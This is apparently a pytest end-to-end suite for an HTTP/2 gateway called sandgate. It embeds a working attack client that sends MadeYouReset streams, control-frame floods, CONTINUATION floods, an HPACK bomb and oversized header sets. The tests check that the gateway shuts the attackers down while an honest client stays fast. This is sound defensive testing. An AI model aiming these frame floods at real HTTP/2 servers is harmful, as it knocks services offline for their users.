"""HTTP/2 frames that are not requests, on the inspected path (mitmproxy's HTTP/2
server side), from real sandboxes of `sandgate gateway --workers 1` beside an honest
one (support/crowd.run_attack: its HTTPS requests share the attackers' worker). The
attackers speak HTTP/2 with the `h2` library (copied into the shared directory: the
sandbox's python has none), crafted frames raw:

- "madeyoureset" (CVE-2025-8671): a request with END_STREAM, then DATA on its
  half-closed stream: the gateway's h2 resets the stream (STREAM_CLOSED) after the
  request was decided and sent upstream; the client never sends RST_STREAM;
- "settings", "ping", "priority", "empty-data" (CVE-2019-9512/9515/9516/9518): those
  frames for ever, never reading what the gateway answers;
- "continuation": a HEADERS frame never ended, 16 KB CONTINUATION frames after it;
- "hpack-bomb": a 4,000-byte header put in the dynamic table, then header blocks that
  repeat it by index (each 1-byte reference decodes to 4 KB);
- "header-count": requests of 1,500 one-letter header fields;
- "table-size": SETTINGS_HEADER_TABLE_SIZE 2^32-1 (the gateway's encoder may keep
  that much), then requests.

Each test proves the harm is gone: the honest sandbox's requests all answer fast, the
service's RSS stays bounded, the attacker met GOAWAY ENHANCE_YOUR_CALM (or a 4xx),
the audit log names the built-in rule, and nginx's access log shows what of the
attack reached the upstream. Numbers are printed (`pytest -s`); `SANDGATE_PH2_N`
sets the attackers per mode (default 1)."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import h2
import hpack
import hyperframe
import pytest
from sandgate.proxy.lean_mitmproxy import MAX_H2_EARLY_RESETS
from support import sandbox
from support.crowd import H2_RULES as RULES
from support.crowd import run_attack
from support.service import running

pytestmark = pytest.mark.e2e

ROUNDS = 8
BOUND = 1.0  # seconds: the slowest honest request asserted
RSS_GROWTH_KB = 48 * 1024
N = int(os.environ.get("SANDGATE_PH2_N", 1))


# mode shared me count, as support/crowd.ATTACK. `ok` counts what the attack sent (frames,
# or streams for madeyoureset and the header modes), `conns` connections made, `calm`
# GOAWAY ENHANCE_YOUR_CALM received, `refused` connections that ended, `status`
# the response codes seen.
H2_CLIENT = """
import os, socket, ssl, struct, sys, time
modes, shared, me = sys.argv[1].split("+"), sys.argv[2], sys.argv[3]
mode = modes[int(me) % len(modes)]  # attacker I runs the I-th mode, round and round
sys.path.insert(0, f"{shared}/pylib")
import h2.config, h2.connection, h2.events
from hpack import Encoder

ip = socket.gethostbyname("allowed.test")
end = time.monotonic() + 80
stopped = lambda: os.path.exists(f"{shared}/stop") or time.monotonic() > end
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
seen = {"ok": 0, "conns": 0, "calm": 0, "refused": 0, "status": {}, "alpn": None}
NEVER_READ = ("settings", "ping", "priority", "empty-data", "continuation")

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def head(path, extra=()):
    return [(":method", "GET"), (":scheme", "https"), (":path", path),
            (":authority", "allowed.test"), *extra]

def connect():
    s = context.wrap_socket(socket.create_connection((ip, 443), timeout=5), server_hostname="allowed.test")
    seen["alpn"] = s.selected_alpn_protocol()
    seen["conns"] += 1
    conn = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False,
        validate_inbound_headers=False))
    conn.initiate_connection()
    if mode == "table-size":
        conn.update_settings({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 2**32 - 1})
    s.sendall(conn.data_to_send())
    return s, conn

def read(s, conn, wait=0.0):
    # Take what the gateway sent; False once it closed or said GOAWAY.
    s.settimeout(wait or 0.001)
    alive = True
    try:
        while True:
            data = s.recv(65536)
            if not data:
                alive = False
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    seen["calm"] += event.error_code == 0xB
                    alive = False
                elif isinstance(event, h2.events.ResponseReceived):
                    code = dict(event.headers).get(b":status", b"?").decode()
                    seen["status"][code] = seen["status"].get(code, 0) + 1
            s.sendall(conn.data_to_send())
            s.settimeout(0.001)
    except (socket.timeout, ssl.SSLWantReadError):
        pass
    except (OSError, h2.exceptions.ProtocolError):
        alive = False
    return alive

def attack(s, conn):
    stream, n = 1, 0
    if mode == "continuation":
        s.sendall(frame(1, 0, 1, b"\\x82\\x87\\x84\\x01\\x0callowed.test"))
    while not stopped():
        n += 1
        if mode == "madeyoureset":
            burst = b""
            for _ in range(20):
                conn.send_headers(stream, head(f"/myr-{me}-{seen['ok']}"), end_stream=True)
                burst += conn.data_to_send() + frame(0, 1, stream, b"x")
                stream += 2
                seen["ok"] += 1
            s.sendall(burst)
            if not read(s, conn, 0.02):
                return
        elif mode in NEVER_READ:
            one = {
                "settings": frame(4, 0, 0, b"\\x00\\x03\\x00\\x00\\x00\\x64"),
                "ping": frame(6, 0, 0, b"12345678"),
                "priority": frame(2, 0, 3, struct.pack(">I", 1) + b"\\x10"),
                "empty-data": frame(0, 0, 1, b""),
                "continuation": frame(9, 0, 1, b"\\x40\\x01x\\x10" + b"v" * 16000),
            }[mode]
            if mode == "empty-data" and n == 1:
                conn.send_headers(1, head("/upload", [("content-length", "10")]))
                s.sendall(conn.data_to_send())
            s.sendall(one * (4 if mode == "continuation" else 256))
            seen["ok"] += 4 if mode == "continuation" else 256
        else:  # hpack-bomb, header-count, table-size: requests, answers read
            if mode == "hpack-bomb":
                encoder = Encoder()
                block = encoder.encode(head("/bomb", [("x-bomb", "b" * 4000)]))
                block += bytes([0x80 | 62]) * 2000  # the x-bomb entry, by index, again and again
                s.sendall(frame(1, 5, stream, block))
            elif mode == "header-count":
                conn.send_headers(stream, head("/count", [(f"h{i}", "v") for i in range(1500)]), end_stream=True)
                s.sendall(conn.data_to_send())
            else:
                conn.send_headers(stream, head(f"/table-{n}", [(f"x-{n}", "v" * 64)]), end_stream=True)
                s.sendall(conn.data_to_send())
            stream += 2
            seen["ok"] += 1
            if not read(s, conn, 0.05):
                return

up = False
while not stopped():
    try:
        s, conn = connect()
        if not up:
            open(f"{shared}/up-{me}", "w").write("up")
            up = True
        attack(s, conn)
        if mode in NEVER_READ:
            read(s, conn, 0.2)
        s.close()
    except (OSError, h2.exceptions.ProtocolError):
        pass
    seen["refused"] += 1
    time.sleep(0.05)
if not up:
    open(f"{shared}/up-{me}", "w").write("up")
open(f"{shared}/done-{me}", "w").write(repr(seen))
"""


@pytest.fixture
def service(net, tmp_path):
    with running(net, tmp_path, RULES, "--workers", "1", "--warm", "0") as gateway:
        yield gateway


def give_h2(tmp_path: Path) -> None:
    """Copy the h2 library (pure python) where the sandboxes can import it."""
    shared, _ = sandbox.shared_dir(tmp_path)
    for package in (h2, hpack, hyperframe):
        source = Path(package.__file__).parent
        shutil.copytree(source, shared / "pylib" / source.name, dirs_exist_ok=True)


def attacked(service, tmp_path, modes: list[str]) -> list[tuple[str, dict, list[dict]]]:
    """Run N attackers of each of `modes` beside the honest sandbox (run_attack asserts
    its times and the RSS); each attacker's mode, what it saw, and its audit events."""
    give_h2(tmp_path)
    crowd = modes * N
    attackers, _, _ = run_attack(
        service,
        tmp_path,
        "+".join(modes),
        "h2",
        len(crowd),
        BOUND,
        RSS_GROWTH_KB,
        ROUNDS,
        code=H2_CLIENT,
    )
    found = []
    for mode, (workdir, saw) in zip(crowd, attackers, strict=True):
        print(mode, saw)
        assert saw["alpn"] == "h2" and saw["ok"] > 0, (mode, saw)
        task = json.loads((workdir / "summary.json").read_text())["task_id"]
        service.wait_task_ended(task)
        events = service.events(task_id=task)
        assert not [e for e in events if e.get("reason") == "internal_error"], events[-3:]
        found.append((mode, saw, events))
    service.verify_audit()
    return found


def flooded(events: list[dict], rule: str) -> list[dict]:
    return [
        e for e in events if e.get("rule_id") == f"builtin:{rule}" and e["kind"] == "connection"
    ]


def test_made_you_reset_counts_as_reset_and_reaches_the_upstream_no_more_than_rapid_reset(
    service, net, tmp_path
):
    """Resets the gateway makes for the client's frames close the connection at the
    rapid-reset budget: what reached nginx is at most the budget's streams a connection."""
    ((_, saw, events),) = attacked(service, tmp_path, ["madeyoureset"])[:1]
    calmed = flooded(events, "rapid-reset")
    assert calmed, (saw, events[-3:])  # its GOAWAY may be lost to the close's reset
    assert all(e["reason"] == "sandbox_limit" and "MadeYouReset" in e["detail"] for e in calmed)
    budget = (MAX_H2_EARLY_RESETS + 20) * saw["conns"]  # a burst of 20 past the last count
    requests = [e for e in events if e["kind"] == "request"]
    upstream = [r for r in net.requests_seen() if r["uri"].startswith("/myr-")]
    print(
        f"madeyoureset: {saw['ok']} streams sent, {len(requests)} decided, "
        f"{len(upstream)} reached nginx, {saw['conns']} connections"
    )
    assert len(requests) <= budget and len(upstream) <= len(requests), (len(requests), budget)
    # Without the count every stream was decided and sent: the connection never ended.
    assert saw["conns"] > 1 and len(requests) < saw["ok"], saw


def test_control_frame_floods_get_goaway_and_leave_the_honest_sandbox_fast(service, tmp_path):
    for mode, saw, events in attacked(
        service, tmp_path, ["settings", "ping", "priority", "empty-data"]
    ):
        # The client never reads: the gateway's close resets its socket before the
        # GOAWAY is read. The events say what was closed, and why.
        calmed = flooded(events, "control-frame-flood")
        assert calmed and all(e["reason"] == "sandbox_limit" for e in calmed), (mode, events[-3:])
        assert saw["conns"] > 1 and len(calmed) <= saw["conns"], (mode, len(calmed), saw)


def test_header_block_attacks_are_bounded_by_the_head_limits(service, net, tmp_path):
    found = {
        mode: (saw, events)
        for mode, saw, events in attacked(
            service, tmp_path, ["continuation", "hpack-bomb", "header-count", "table-size"]
        )
    }
    for mode in ("continuation", "hpack-bomb"):
        saw, events = found[mode]
        calmed = flooded(events, "headers-too-large")
        assert calmed and all(e["reason"] == "headers_too_large" for e in calmed), (mode, saw)
        assert saw["conns"] > 1 and len(calmed) <= saw["conns"], (mode, len(calmed), saw)
    # The bomb's and the field count's heads never became requests nginx saw.
    seen = {r["uri"] for r in net.requests_seen()}
    assert "/bomb" not in seen and "/count" not in seen, seen
    saw, _ = found["header-count"]
    assert set(saw["status"]) <= {"431"}, saw
    saw, _ = found["table-size"]
    assert saw["status"].get("200", 0) > 0, saw
